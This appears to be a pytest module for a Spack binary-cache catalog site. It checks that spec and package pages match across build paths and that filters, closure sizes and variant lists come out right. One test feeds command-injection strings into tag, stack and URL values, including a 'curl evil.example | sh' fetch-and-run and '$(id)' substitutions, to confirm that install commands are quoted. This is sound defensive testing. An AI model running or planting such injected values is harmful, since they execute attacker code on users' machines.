"""Page data built in bulk (for the whole site) against the one-page-at-a-time builders."""

from __future__ import annotations

import asyncio
import html
import re
import shlex
import sqlite3
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cachedex.catalog import Catalog
from cachedex.errors import UnknownPackage, UnknownSpec
from cachedex.publish.graph import SpecGraph
from cachedex.publish.pages import package_page, package_pages, resolve, spec_page
from cachedex.publish.render import render, to_json
from cachedex.publish.site import write_site
from cachedex.query import parse
from cachedex.values import Dependency
from tests.helpers import Demo, record, replace_mirror, write_tag


def get(app: Any, path: str) -> httpx.Response:
    async def go() -> httpx.Response:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test") as client:
            return await client.get(path)

    return asyncio.run(go())


def test_spec_graph_builds_exactly_the_pages_of_spec_page(demo_run: Demo) -> None:
    with Catalog(demo_run.catalog, readonly=True) as catalog:
        graph = SpecGraph(catalog)
        nodes = dict(catalog.nodes_of(list(graph.ids.values())))
        assert len(graph.ids) > 500
        compared = {"dependents": 0, "closure": 0, "unlisted": 0}
        for dag_hash, spec_id in sorted(graph.ids.items()):
            expected = spec_page(catalog, dag_hash)
            assert to_json(graph.page(spec_id, nodes[spec_id])) == to_json(expected), dag_hash
            compared["dependents"] += bool(expected.dependents)
            compared["closure"] += len(expected.closure) > 3
            compared["unlisted"] += not expected.spec.tags
        # the demo has specs of every kind, so the comparison covered each part
        assert all(compared.values()), compared
        # A build after a sync reads the graph around a few specs only (their dependents
        # apart): the same pages, the hubs with the most dependents among them.
        hubs = sorted(
            graph.ids.values(),
            key=lambda spec_id: -len(catalog.edges_of(graph.page(spec_id, "{}").spec.hash, reverse=True)),
        )
        only = sorted(set(hubs[:20]) | set(list(graph.ids.values())[::17]))
        partial = SpecGraph(catalog, only)
        assert partial.ids.keys() < graph.ids.keys()
        for spec_id in only:
            assert to_json(partial.page(spec_id, nodes[spec_id])) == to_json(graph.page(spec_id, nodes[spec_id]))


def test_an_unlisted_spec_of_two_compilers_has_one_page_however_built(demo_run: Demo, tmp_path: Path) -> None:
    """A spec a mirror holds but does not list: the site's page (built in bulk) named its
    other compilers, the server's (one page) did not."""
    copy = tmp_path / "catalog.sqlite"
    with sqlite3.connect(demo_run.catalog) as source, sqlite3.connect(copy) as target:
        source.backup(target)
    with Catalog(copy, readonly=True) as catalog:
        (darwin,) = catalog.search(parse("netlib-lapack platform=darwin"), tag="develop").specs
    assert darwin.other_compilers
    with sqlite3.connect(copy) as db:
        (spec_id,) = db.execute("SELECT id FROM specs WHERE hash = ?", (darwin.hash,)).fetchone()
        db.execute("UPDATE members SET listed = 0 WHERE spec_id = ?", (spec_id,))
    with Catalog(copy, readonly=True) as catalog:
        page = spec_page(catalog, darwin.hash)
        assert not page.spec.tags and page.spec.other_compilers == darwin.other_compilers
        nodes = dict(catalog.nodes_of([spec_id]))
        assert to_json(SpecGraph(catalog, [spec_id]).page(spec_id, nodes[spec_id])) == to_json(page)


def test_package_pages_streamed_equal_package_page(demo_run: Demo) -> None:
    with Catalog(demo_run.catalog, readonly=True) as catalog:
        for tag in catalog.tag_names():
            shares = [list(package_pages(catalog, tag, part=n, parts=3)) for n in range(3)]
            pages = sorted((p for share in shares for p in share), key=lambda p: p.name)
            names = {name for name, tags in catalog.package_names().items() if tag in tags}
            assert [p.name for p in pages] == sorted(names) and all(shares), tag
            for page in pages:
                assert to_json(page) == to_json(package_page(catalog, tag, page.name)), (tag, page.name)


# -- on a small catalog (fast) ------------------------------------------------------------


def test_a_spec_page_follows_link_edges_and_counts_unknown_sizes(small_catalog: Catalog) -> None:
    page = spec_page(small_catalog, "c" * 32)
    assert [e.name for e in page.dependencies] == ["gcc", "zlib"]
    assert [e.name for e in page.closure] == ["zlib"]  # gcc is a build dependency only
    assert (page.closure_size, page.closure_unknown) == (100_000, 1)  # cmake's own size is unknown
    assert [(h.tag, h.stack) for h in page.holders] == [("t", "root")]
    assert page.install[0].commands.endswith(f"spack install --cache-only /{'c' * 32}")
    zlib = spec_page(small_catalog, "z" * 32)
    assert [e.name for e in zlib.dependents] == ["cmake"] and [h.stack for h in zlib.holders] == ["root", "s"]
    graph = SpecGraph(small_catalog)
    assert graph.page(graph.ids["c" * 32], page.node) == page


def test_a_spec_page_says_what_installing_it_downloads(small_catalog: Catalog) -> None:
    def said(dag_hash: str) -> str:
        (text,) = re.findall(r'<dd id="closure-size">(.*?)</dd>', render(spec_page(small_catalog, dag_hash)))
        return html.unescape(text)

    assert said("c" * 32) == (
        "100.0 kB to download: this binary and 1 link/run dependency with a binary (1 of 2 sizes known)"
    )
    # Without a binary of its own or of a dependency, there is nothing to count.
    assert said("g" * 32) == (
        "nothing to download: neither it nor any of its link/run dependencies has a binary in the cache"
    )


def test_a_package_page_counts_its_facets(small_catalog: Catalog) -> None:
    page = package_page(small_catalog, "t", "zlib")
    assert page.facets["stack"] == {"root": 1, "s": 1} and page.size == 100_000
    assert list(package_pages(small_catalog, "t")) == [package_page(small_catalog, "t", "cmake"), page]
    with pytest.raises(UnknownPackage, match="tag 't' lists no package 'gcc'"):
        package_page(small_catalog, "t", "gcc")


def test_page_leads_count_one_in_the_singular_as_the_badge_and_the_cli_do(small_catalog: Catalog) -> None:
    # Tag t: zlib and cmake listed (2 specs of 2 packages), one stack besides the root;
    # cmake has 1 spec, which its badge says "1 spec" and `cachedex show` too.
    from cachedex.publish.badges import count_text
    from cachedex.publish.coverage import coverage_page
    from cachedex.publish.pages import tag_page

    def lead(text: str) -> str:
        (found,) = re.findall(r'<p class="lead">(.*?)</p>', text, flags=re.S)
        return html.unescape(re.sub(r"<[^>]+>", "", found))

    assert lead(render(tag_page(small_catalog, "t"))).startswith("2 specs of 2 packages in 1 stack \u00b7 ")
    assert lead(render(package_page(small_catalog, "t", "cmake"))).startswith(f"{count_text(1)} \u00b7 ")
    # A tag listing cmake alone: one spec of one package, and no stack.
    write_tag(small_catalog, "one", [], members={"c" * 32: True}, checksum="one")
    assert lead(render(tag_page(small_catalog, "one"))).startswith("1 spec of 1 package in 0 stacks \u00b7 ")
    assert '<p class="muted">1 package; a family' in render(coverage_page(small_catalog, "one"))


def test_an_empty_tag_s_page_does_not_blame_filters_it_has_not(tmp_path: Path) -> None:
    from cachedex.publish.pages import tag_page

    with Catalog(tmp_path / "c.sqlite") as catalog:
        write_tag(catalog, "empty", [], members={})
        page = tag_page(catalog, "empty")
        text = render(page)
    assert not page.packages and not page.filters and not page.text
    (said,) = re.findall(r'<div class="empty" id="empty">\s*<p>(.*?)</p>', text)
    assert "filters" not in said and "lists no spec" in said
    assert "0 specs of 0 packages in 0 stacks" in text


def test_resolve_tells_hashes_from_package_names(small_catalog: Catalog) -> None:
    assert resolve(small_catalog, "zlib") == "zlib"
    found = resolve(small_catalog, "/zzzz")
    assert not isinstance(found, str) and found.hash == "z" * 32
    assert not isinstance(resolve(small_catalog, "cccc"), str)  # no package of that name: a hash prefix
    gcc = resolve(small_catalog, "/gggg")  # held without a binary: the site has its page too
    assert not isinstance(gcc, str) and (gcc.name, gcc.tags) == ("gcc", ())
    with pytest.raises(UnknownSpec):
        resolve(small_catalog, "/qqq")
    with pytest.raises(UnknownPackage):
        resolve(small_catalog, "nothing-here")


# -- findings of the reliability review ------------------------------------------------------


def test_sec3_install_commands_quote_hostile_names_and_urls(tmp_path: Path) -> None:
    # Names a remote tags_from file may hold: pasted unquoted, each runs its own command.
    tag, stack = "dev;curl -s evil.example|sh;#", "e4s$(id>~.pwned)"
    url = "http://127.0.0.1:18081/good dir/v3?a=1&b=`id`"
    dag_hash = "q" * 32
    path = tmp_path / "c.sqlite"
    with Catalog(path) as catalog:
        with catalog.writing_tag(tag) as writer:
            writer.add_specs([record(dag_hash, "zlib")], {})
            replace_mirror(writer, "root", {dag_hash: True}, url=url, checksum="root")
            replace_mirror(writer, stack, {dag_hash: True}, url=url + "/s", checksum=stack)
        page = spec_page(catalog, dag_hash)
        graph = SpecGraph(catalog)
        assert graph.page(graph.ids[dag_hash], page.node) == page
        site = write_site(catalog, tmp_path / "site")
    keys = ["spack", "buildcache", "keys", "--install", "--trust"]
    install = ["spack", "install", "--cache-only", f"/{dag_hash}"]
    expected = {
        "root": [["spack", "mirror", "add", tag, url], keys, install],
        stack: [["spack", "mirror", "add", f"{tag}-{stack}", url + "/s"], keys, install],
    }
    assert {i.stack: [shlex.split(line) for line in i.commands.splitlines()] for i in page.install} == expected
    # The same commands in the site's JSON twin, its copy buttons and its <pre>, and the API.
    base = site.outdir / "specs" / dag_hash[:2] / dag_hash
    twin = msgspec.json.decode((base.with_suffix(".json")).read_bytes())
    assert [i["commands"] for i in twin["install"]] == [i.commands for i in page.install]
    text = base.with_suffix(".html").read_text()
    shown = [html.unescape(c) for c in re.findall(r'data-copy="([^"]*spack mirror add[^"]*)"', text)]
    shown_pre = [html.unescape(c) for c in re.findall(r'<pre id="install-\d"[^>]*>([^<]*)</pre>', text)]
    assert shown == shown_pre == [i.commands for i in page.install]
    from cachedex.publish.serve import create_app

    answer = get(create_app(path), f"/api/specs/{dag_hash}").json()
    assert [i["commands"] for i in answer["install"]] == [i.commands for i in page.install]


def test_cos5_a_self_loop_does_not_count_a_spec_twice_in_its_closure(tmp_path: Path) -> None:
    own, other = "l" * 32, "m" * 32
    loop = (Dependency(own, "selfish", 2, ""), Dependency(other, "zlib", 2, ""))  # 2: link
    with Catalog(tmp_path / "c.sqlite") as catalog:
        write_tag(
            catalog,
            "t",
            [record(own, "selfish", dependencies=loop), record(other, "zlib")],
            sizes={own: 12_300, other: 12_300},
        )
        page = spec_page(catalog, own)
        graph = SpecGraph(catalog)
        assert graph.page(graph.ids[own], page.node) == page
    assert [e.hash for e in page.closure] == [other]
    assert (page.closure_size, page.closure_unknown) == (24_600, 0)


_FORMS = st.sampled_from(["+", "~", "=a", "=b", ":=80,90"])
#: One spec's variants: at most one value per variant name, as Spack records them.
_VARIANTS = st.dictionaries(st.sampled_from(["mpi", "cuda", "shared", "build_type"]), _FORMS).map(
    lambda chosen: tuple(sorted(f"{form}{name}" if form in "+~" else f"{name}{form}" for name, form in chosen.items()))
)


@settings(max_examples=300)
@given(st.lists(_VARIANTS, max_size=6))
def test_differing_variants_are_those_whose_value_is_not_the_same_in_every_spec(
    variant_lists: list[tuple[str, ...]],
) -> None:
    from cachedex.catalog import SpecSummary
    from cachedex.publish.package_pages import differing_variants
    from cachedex.values import variant_name

    specs = [
        SpecSummary(
            hash="h",
            name="n",
            version="1",
            compiler="",
            platform="",
            os="",
            target="",
            variants=v,
            size=None,
            tags=(),
            stacks=(),
        )
        for v in variant_lists
    ]
    names = {variant_name(text) for variants in variant_lists for text in variants}
    # The value each spec holds for a name (None when it lacks it): more than one differs.
    expected = sorted(
        name
        for name in names
        if len({next((t for t in variants if variant_name(t) == name), None) for variants in variant_lists}) > 1
    )
    assert list(differing_variants(specs)) == expected


def test_a_variant_every_spec_holds_filters_none_out(demo_run: Demo) -> None:
    """``?variant=+mpi`` on hdf5's page, whose six specs all have +mpi: six match (it said
    "0 of 6", as the filter's choices list the variants that differ only), and the
    filter's choice counts them."""
    with Catalog(demo_run.catalog, readonly=True) as catalog:
        whole = package_page(catalog, "develop", "hdf5")
        (shared, *_) = [v for v in whole.shared if v.startswith("+")]
        page = package_page(catalog, "develop", "hdf5", {"variant": shared})
    assert all(page.matches) and len(page.matches) == len(whole.specs) > 1
    assert page.facets["variant"][shared] == len(whole.specs)
    assert 'data-shared-variants="' in render(whole) and shared in whole.shared


def test_a_package_page_lists_a_version_s_builds_in_the_order_searches_do(demo_run: Demo) -> None:
    """Newest version first, a version's builds by hash: a reversed sort reversed the
    hashes too, and the package page (its twin, the API, ``show --json``) listed the same
    builds in the opposite order of every search."""
    from cachedex.publish.package_pages import package_page
    from cachedex.query import parse

    with Catalog(demo_run.catalog, readonly=True) as catalog:
        names = {s.name for s in catalog.search(parse("@:"), tag="develop", limit=100_000).specs}
        tied = 0
        for name in sorted(names):
            page = [s.hash for s in package_page(catalog, "develop", name).specs]
            searched = [s.hash for s in catalog.search(parse(name), tag="develop", limit=100_000).specs]
            assert page == searched, name
            tied += len(page) - len({s.version for s in package_page(catalog, "develop", name).specs})
        assert tied > 100  # many versions with several builds


def test_a_tag_page_filtered_to_its_root_says_so_in_its_stack_filter(small_catalog: Catalog) -> None:
    """``?stack=root`` was applied, but the select said "any": the root is no option
    (every spec is in it) unless it is the one chosen."""
    from cachedex.publish.pages import tag_page

    select = re.search(
        r'<select name="stack".*?</select>', render(tag_page(small_catalog, "t", {"stack": "root"})), re.S
    )
    assert select is not None and re.search(r'<option value="root" selected>root \(\d+\)</option>', select[0]), select
    unfiltered = re.search(r'<select name="stack".*?</select>', render(tag_page(small_catalog, "t")), re.S)
    assert unfiltered is not None and 'value="root"' not in unfiltered[0]


def _ways_on(text: str) -> tuple[list[str], str | None]:
    """An empty page's offered removals (each item's text), and what it says when none
    helps (None while that is hidden)."""
    box = text.split('id="empty"')[1].split("</div>")[0]
    items = [re.sub(r"<[^>]+>", "", item).strip() for item in re.findall(r"<li>(.*?)</li>", box, re.S)]
    (none,) = re.findall(r'<p id="no-relax"( hidden)?>(.*?)</p>', box, re.S)
    return items, None if none[0] else re.sub(r"<[^>]+>", "", none[1])


def test_an_empty_page_offers_no_removal_that_finds_nothing(demo_run: Demo) -> None:
    """As the server writes it (no script): each removal offered finds something, the
    Version box's drop too; when none does, the box says so and offers clearing them all."""
    from cachedex.publish.pages import tag_page

    with Catalog(demo_run.catalog, readonly=True) as catalog:
        stuck = tag_page(catalog, "develop", {"os": "sequoia", "target": "zen4", "stack": "e4s"})
        hwloc = package_page(catalog, "develop", "hwloc", {"os": "sequoia", "target": "zen4"})
        typed = package_page(catalog, "develop", "hwloc", {}, "9.9")
        both = package_page(catalog, "develop", "hwloc", {"os": "sequoia", "target": "zen4"}, "9.9")
    assert set(stuck.relax.values()) == {0} and stuck.tag.packages > 0
    assert _ways_on(render(stuck)) == (
        [],
        f"Removing any one of these filters finds nothing either. Clear all filters: {stuck.tag.packages} packages.",
    )
    assert 'href="index.html" id="clear-filters"' in render(stuck)
    target = hwloc.relax["target"]
    assert hwloc.relax["os"] == 0 and target > 0
    assert _ways_on(render(hwloc)) == ([f"Without target=zen4: {target} spec{'s' * (target != 1)}"], None)
    # The Version box alone empties the page: its drop is the way on (the script's too).
    assert typed.without_text == len(typed.specs) and not any(typed.matches)
    assert _ways_on(render(typed)) == ([f'Without Version "9.9": {len(typed.specs)} specs'], None)
    # With the filters above, no removal (the Version's either) finds anything.
    assert both.without_text == 0 and both.relax == {"os": 0, "target": 0}
    assert _ways_on(render(both))[0] == [] and "Clear all filters" in str(_ways_on(render(both))[1])
